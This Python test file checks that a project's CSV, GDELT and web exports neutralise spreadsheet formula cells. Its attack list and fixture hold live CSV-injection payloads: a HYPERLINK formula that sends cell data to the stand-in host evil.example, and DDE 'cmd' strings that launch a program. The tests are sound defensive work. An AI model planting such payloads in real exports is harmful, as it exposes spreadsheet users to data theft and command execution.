"""CSV files and downloads are safe to open in a spreadsheet: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from tacitus.model import Location
from tacitus.store import EventFilter, open_store
from tacitus.store.export import (
    FORMULA_STARTS,
    csv_event,
    gdelt_row,
    neutralise_cell,
    write_csv,
    write_gdelt,
)

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_become_text(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-2.0", "+3", "-0.5e3", "12.5", "2024-03-12", "USAGOV", "", "a=b", 3.5, -2.0, None])
def test_numbers_and_ordinary_cells_are_left_alone(value):
    assert neutralise_cell(value) == value


@pytest.fixture
def hostile_store(factories):
    make_event, make_coding = factories
    text = "=HYPERLINK(\"http://evil.example\",\"click\") Russia criticized Ukraine."
    event = make_event(text, "RUSGOV", "UKR", "111", goldstein=-2.0,
                       place=Location("@Kyiv", 703448, "+Kyiv", "UKR", 50.45, -30.52, "sentence"))
    coding = make_coding(text, [event], url="=cmd|' /C calc'!A0")
    with open_store(":memory:") as store:
        store.add_coding(coding)
        yield store


def _assert_safe(cells):
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number may start with + or -


def test_csv_export_quotes_formulas_and_keeps_numbers(hostile_store):
    out = io.StringIO()
    assert write_csv(hostile_store.iter_events(EventFilter()), out) == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    _assert_safe(row.values())
    assert row["text"].startswith("'=HYPERLINK") and row["article_url"] == "'=cmd|' /C calc'!A0"
    assert row["article_title"].startswith("'=HYPERLINK")
    assert row["goldstein"] == "-2.0" and row["place_lon"] == "-30.52" and row["place"] == "'@Kyiv"


def test_gdelt_rows_quote_formulas_and_keep_coordinates(hostile_store):
    [record] = list(hostile_store.iter_events(EventFilter()))
    out = io.StringIO()
    write_gdelt([record], out)
    cells = out.getvalue().rstrip("\n").split("\t")
    _assert_safe(cells)
    assert cells == [neutralise_cell(c) for c in gdelt_row(record)]
    assert "-30.5200" in cells and cells[-1] == "'=cmd|' /C calc'!A0"


def test_csv_event_changes_only_dangerous_cells(hostile_store):
    from tacitus.store.export import flat_event

    [record] = list(hostile_store.iter_events(EventFilter()))
    flat, safe = flat_event(record), csv_event(record)
    changed = {k for k in flat if flat[k] != safe[k]}
    assert changed == {"text", "article_title", "article_url", "place"}


def test_web_download_is_neutralised(hostile_store):
    from fastapi.testclient import TestClient

    from tacitus.web.app import create_app

    with TestClient(create_app(hostile_store), base_url="http://127.0.0.1") as client:
        response = client.get("/api/events.csv")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    _assert_safe(row.values())
    assert row["article_url"] == "'=cmd|' /C calc'!A0"
